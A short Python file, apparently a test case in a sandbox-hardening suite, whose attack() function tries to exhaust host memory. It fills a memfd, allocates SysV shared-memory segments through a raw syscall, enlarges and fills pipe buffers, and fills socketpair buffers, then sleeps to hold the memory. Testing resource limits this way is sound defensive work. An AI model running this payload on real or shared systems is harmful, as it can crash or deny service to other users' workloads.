from kit import *


def attack():
    import socket

    attempted()
    kept = []
    block = b"x" * (1 << 20)
    file = os.memfd_create("loot")
    for _ in range(400):
        tries("memfd", lambda: os.write(file, block) and None)
    while True:
        identifier = syscall(29, 0, 64 << 20, 0o1600)
        if identifier < 0:
            break
        import ctypes

        libc = ctypes.CDLL(None)
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(identifier, None, 0)
        if place and place != ctypes.c_void_p(-1).value:
            ctypes.memset(place, 1, 64 << 20)
            libc.shmdt(ctypes.c_void_p(place))
    while True:
        try:
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            __import__("fcntl").fcntl(writing, 1031, 1 << 20)
            os.write(writing, block)
            kept.append((reading, writing))
        except OSError:
            break
    while True:
        try:
            one, other = socket.socketpair()
            other.setblocking(False)
            for _ in range(4):
                other.send(block)
            kept.append((one, other))
        except OSError:
            break
    __import__("time").sleep(1000)
